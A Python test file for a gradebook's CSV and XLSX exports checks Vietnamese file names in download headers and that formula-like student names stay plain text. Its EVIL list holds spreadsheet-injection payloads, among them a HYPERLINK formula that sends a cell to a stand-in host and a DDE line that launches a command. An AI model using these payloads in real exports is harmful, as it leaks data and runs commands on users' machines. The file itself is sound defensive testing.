"""Gradebook exports: a Vietnamese class name in the file name (RFC 6266) and names that look like formulas."""
import csv
import io
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook

from tests.gradebook.conftest import Book

EVIL = ['=HYPERLINK("http://x.example/?"&A1,"Xem điểm")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1)"]


@pytest.fixture
def chuyen_ly(world, factory):
    """Class "Lớp 10 Chuyên Lý" taught by the world's teacher, with students whose names start like formulas."""
    klass = factory.klass(world.school, name="Lớp 10 Chuyên Lý", homeroom_teacher_id=world.teacher)
    factory.assign(klass, world.teacher, "toan")
    students = [factory.user("student", world.school, full_name=name) for name in EVIL]
    factory.enrol(klass, *students)
    book = Book(world.as_("teacher"), klass, "toan", 1)
    column = book.column("tx", "=1+1")
    for student in students:
        assert book.put(column, {student: 8}).status_code == 200
    return book


def _filename(resp):
    header = resp.headers["Content-Disposition"]
    header.encode("latin-1")
    fallback = header.split('filename="')[1].split('"')[0]
    exact = unquote(header.split("filename*=UTF-8''")[1])
    return fallback, exact


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_of_a_class_with_a_vietnamese_name_is_a_download(chuyen_ly, fmt):
    resp = chuyen_ly.api.get(f"/gradebook/export?{chuyen_ly.query}&format={fmt}")
    assert resp.status_code == 200, resp.data[:300]
    fallback, exact = _filename(resp)
    assert exact == f"Sổ điểm Toán - Lớp 10 Chuyên Lý - HK1.{fmt}"
    assert fallback == f"So diem Toan - Lop 10 Chuyen Ly - HK1.{fmt}"
    assert resp.headers["Content-Disposition"].startswith("attachment;")


def test_csv_names_that_look_like_formulas_stay_text(chuyen_ly):
    resp = chuyen_ly.api.get(f"/gradebook/export?{chuyen_ly.query}&format=csv")
    rows = list(csv.reader(io.StringIO(resp.data.decode("utf-8-sig"))))
    names = [r[2] for r in rows[1:]]
    assert sorted(names) == sorted("'" + n for n in EVIL)
    assert all(r[3] == "8,0" for r in rows[1:])  # scores stay plain numbers


def test_xlsx_names_and_titles_that_look_like_formulas_stay_text(chuyen_ly):
    resp = chuyen_ly.api.get(f"/gradebook/export?{chuyen_ly.query}&format=xlsx")
    sheet = load_workbook(io.BytesIO(resp.data)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # not a single formula in the workbook
    texts = {c.value for c in cells if c.data_type == "s"}
    assert set(EVIL) <= texts and "=1+1" in texts


def test_an_exported_csv_with_escaped_names_imports_back(chuyen_ly):
    exported = chuyen_ly.api.get(f"/gradebook/export?{chuyen_ly.query}&format=csv").data
    resp = chuyen_ly.api.request("POST", f"/gradebook/import?{chuyen_ly.query}",
                                 data={"file": (io.BytesIO(exported), "so-diem.csv")},
                                 content_type="multipart/form-data")
    assert resp.status_code == 200, resp.get_json()
    rows = resp.get_json()["rows"]
    assert len(rows) == len(EVIL) and not [r for r in rows if r["errors"]]
    assert resp.get_json()["applied"] and resp.get_json()["changed"] == 0  # the same values, matched by name
